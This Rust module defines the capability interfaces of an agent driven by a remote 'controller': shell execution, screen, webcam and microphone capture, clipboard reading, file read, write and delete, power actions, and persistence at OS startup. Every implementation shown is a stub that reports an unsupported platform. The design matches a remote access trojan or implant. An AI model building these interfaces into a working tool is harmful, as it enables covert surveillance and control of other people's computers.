//! Capability interfaces consumed by the dispatcher.
//!
//! Each capability is a narrow async trait. Implementations are injected
//! through [`Capabilities`] and never inspected by the dispatcher; every
//! failure is reported as a [`CapabilityError`] whose display text is sent
//! back to the controller verbatim.

use std::{path::Path, sync::Arc, time::Duration};

use async_trait::async_trait;
use bytes::Bytes;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::command::{PowerAction, Quality};

/// Capability error.
#[derive(Debug, Error)]
pub enum CapabilityError {
    #[error("unsupported platform")]
    UnsupportedPlatform,
    #[error("command deadline exceeded")]
    DeadlineExceeded,
    #[error("{0}")]
    Io(#[from] std::io::Error),
    #[error("{status}: {output}")]
    CommandFailed { status: String, output: String },
    #[error("{0}")]
    Failed(String),
}

/// Description of the host the agent runs on.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct DeviceSpecs {
    /// Filled in by the agent before reporting to the controller.
    #[serde(default)]
    pub client_id: String,
    pub hostname: String,
    pub username: String,
    pub user_id: String,
    pub os_name: String,
    pub os_version: String,
    pub os_arch: String,
    pub kernel_version: String,
    /// Unix timestamp (seconds) at which the specs were collected.
    pub fetched_unix: i64,
}

/// One entry of a directory listing.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DirectoryEntry {
    pub filename: String,
    pub is_dir: bool,
    pub size: u64,
    /// Modification time (Unix epoch seconds).
    pub mod_time: i64,
}

/// Result of exploring a directory.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DirectoryListing {
    pub path: String,
    pub files: Vec<DirectoryEntry>,
}

/// Runs shell command lines.
#[async_trait]
pub trait Terminal: Send + Sync {
    /// Run a command line and return its combined output.
    async fn run(&self, command: &str) -> Result<Bytes, CapabilityError>;
}

/// Captures a still image (screen or webcam).
#[async_trait]
pub trait ImageCapture: Send + Sync {
    async fn capture(&self, quality: Quality) -> Result<Bytes, CapabilityError>;
}

/// Captures a batch of audio.
#[async_trait]
pub trait AudioCapture: Send + Sync {
    async fn capture(&self, duration: Duration, quality: Quality) -> Result<Bytes, CapabilityError>;
}

/// Filesystem access.
#[async_trait]
pub trait FileSystem: Send + Sync {
    async fn explore(&self, path: &Path) -> Result<DirectoryListing, CapabilityError>;
    async fn read_file(&self, path: &Path) -> Result<Bytes, CapabilityError>;
    async fn write_file(&self, path: &Path, contents: Bytes) -> Result<(), CapabilityError>;
    async fn delete(&self, path: &Path) -> Result<(), CapabilityError>;
}

/// Opens a URL with the OS default handler.
#[async_trait]
pub trait UrlOpener: Send + Sync {
    async fn open_url(&self, url: &str) -> Result<(), CapabilityError>;
}

/// Describes the host.
#[async_trait]
pub trait DeviceInfo: Send + Sync {
    async fn device_specs(&self) -> Result<DeviceSpecs, CapabilityError>;
}

/// OS power actions.
#[async_trait]
pub trait PowerControl: Send + Sync {
    async fn power(&self, action: PowerAction) -> Result<(), CapabilityError>;
}

/// Installs the agent to start with the OS.
#[async_trait]
pub trait Persistence: Send + Sync {
    async fn install(&self) -> Result<(), CapabilityError>;
}

/// Clipboard access.
#[async_trait]
pub trait Clipboard: Send + Sync {
    async fn read_text(&self) -> Result<String, CapabilityError>;
}

/// Capability implementation for platforms where nothing is available.
#[derive(Debug, Clone, Copy, Default)]
pub struct Unsupported;

#[async_trait]
impl Terminal for Unsupported {
    async fn run(&self, _command: &str) -> Result<Bytes, CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }
}

#[async_trait]
impl ImageCapture for Unsupported {
    async fn capture(&self, _quality: Quality) -> Result<Bytes, CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }
}

#[async_trait]
impl AudioCapture for Unsupported {
    async fn capture(&self, _duration: Duration, _quality: Quality) -> Result<Bytes, CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }
}

#[async_trait]
impl FileSystem for Unsupported {
    async fn explore(&self, _path: &Path) -> Result<DirectoryListing, CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }

    async fn read_file(&self, _path: &Path) -> Result<Bytes, CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }

    async fn write_file(&self, _path: &Path, _contents: Bytes) -> Result<(), CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }

    async fn delete(&self, _path: &Path) -> Result<(), CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }
}

#[async_trait]
impl UrlOpener for Unsupported {
    async fn open_url(&self, _url: &str) -> Result<(), CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }
}

#[async_trait]
impl DeviceInfo for Unsupported {
    async fn device_specs(&self) -> Result<DeviceSpecs, CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }
}

#[async_trait]
impl PowerControl for Unsupported {
    async fn power(&self, _action: PowerAction) -> Result<(), CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }
}

#[async_trait]
impl Persistence for Unsupported {
    async fn install(&self) -> Result<(), CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }
}

#[async_trait]
impl Clipboard for Unsupported {
    async fn read_text(&self) -> Result<String, CapabilityError> {
        Err(CapabilityError::UnsupportedPlatform)
    }
}

/// The fixed set of capabilities the dispatcher calls against.
#[derive(Clone)]
pub struct Capabilities {
    pub terminal: Arc<dyn Terminal>,
    pub screen: Arc<dyn ImageCapture>,
    pub webcam: Arc<dyn ImageCapture>,
    pub microphone: Arc<dyn AudioCapture>,
    pub filesystem: Arc<dyn FileSystem>,
    pub url_opener: Arc<dyn UrlOpener>,
    pub device: Arc<dyn DeviceInfo>,
    pub power: Arc<dyn PowerControl>,
    pub persistence: Arc<dyn Persistence>,
    pub clipboard: Arc<dyn Clipboard>,
}

impl Default for Capabilities {
    fn default() -> Self {
        Self::unsupported()
    }
}

impl Capabilities {
    /// Every capability reports [`CapabilityError::UnsupportedPlatform`].
    #[must_use]
    pub fn unsupported() -> Self {
        Self {
            terminal: Arc::new(Unsupported),
            screen: Arc::new(Unsupported),
            webcam: Arc::new(Unsupported),
            microphone: Arc::new(Unsupported),
            filesystem: Arc::new(Unsupported),
            url_opener: Arc::new(Unsupported),
            device: Arc::new(Unsupported),
            power: Arc::new(Unsupported),
            persistence: Arc::new(Unsupported),
            clipboard: Arc::new(Unsupported),
        }
    }

    #[must_use]
    pub fn with_terminal(mut self, terminal: impl Terminal + 'static) -> Self {
        self.terminal = Arc::new(terminal);
        self
    }

    #[must_use]
    pub fn with_screen(mut self, screen: impl ImageCapture + 'static) -> Self {
        self.screen = Arc::new(screen);
        self
    }

    #[must_use]
    pub fn with_webcam(mut self, webcam: impl ImageCapture + 'static) -> Self {
        self.webcam = Arc::new(webcam);
        self
    }

    #[must_use]
    pub fn with_microphone(mut self, microphone: impl AudioCapture + 'static) -> Self {
        self.microphone = Arc::new(microphone);
        self
    }

    #[must_use]
    pub fn with_filesystem(mut self, filesystem: impl FileSystem + 'static) -> Self {
        self.filesystem = Arc::new(filesystem);
        self
    }

    #[must_use]
    pub fn with_url_opener(mut self, url_opener: impl UrlOpener + 'static) -> Self {
        self.url_opener = Arc::new(url_opener);
        self
    }

    #[must_use]
    pub fn with_device(mut self, device: impl DeviceInfo + 'static) -> Self {
        self.device = Arc::new(device);
        self
    }

    #[must_use]
    pub fn with_power(mut self, power: impl PowerControl + 'static) -> Self {
        self.power = Arc::new(power);
        self
    }

    #[must_use]
    pub fn with_persistence(mut self, persistence: impl Persistence + 'static) -> Self {
        self.persistence = Arc::new(persistence);
        self
    }

    #[must_use]
    pub fn with_clipboard(mut self, clipboard: impl Clipboard + 'static) -> Self {
        self.clipboard = Arc::new(clipboard);
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[tokio::test]
    async fn test_unsupported_error_text() {
        let caps = Capabilities::unsupported();
        let err = caps.clipboard.read_text().await.unwrap_err();
        assert_eq!(err.to_string(), "unsupported platform");
        assert!(caps.power.power(PowerAction::Lock).await.is_err());
    }

    #[test]
    fn test_command_failed_text() {
        let err = CapabilityError::CommandFailed {
            status: "exit status: 2".into(),
            output: "no such file".into(),
        };
        assert_eq!(err.to_string(), "exit status: 2: no such file");
    }
}
